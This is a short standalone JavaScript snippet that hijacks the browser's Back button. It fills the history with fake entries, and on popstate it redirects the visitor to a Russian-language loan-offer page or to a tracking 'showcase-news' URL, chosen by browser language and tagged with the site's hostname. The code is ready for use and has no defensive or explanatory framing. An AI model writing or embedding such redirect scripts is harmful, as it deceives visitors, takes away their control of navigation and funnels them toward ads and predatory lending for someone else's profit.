(function(window, location) {
  var offers = {
    RU: 'https://vygodno.example/lp/zaim?utm_source=back',
    DEFAULT: 'https://showcase-news.example/t/?utm_source=back&sid='
  };
  var lang = (navigator.language || '').slice(0, 2).toUpperCase();
  var target = offers[lang] || offers.DEFAULT + location.hostname;

  history.replaceState(null, document.title, location.pathname + location.search + '#!/back');
  history.pushState(null, document.title, location.pathname + location.search);
  for (var i = 0; i < 10; i++) {
    history.pushState({ n: i }, '', location.href);
  }

  window.addEventListener('popstate', function() {
    if (location.hash === '#!/back' || !history.state || history.state.n < 10) {
      history.replaceState(null, document.title, location.pathname);
      setTimeout(function() {
        location.replace(target);
      }, 0);
    }
  }, false);
}(window, location));
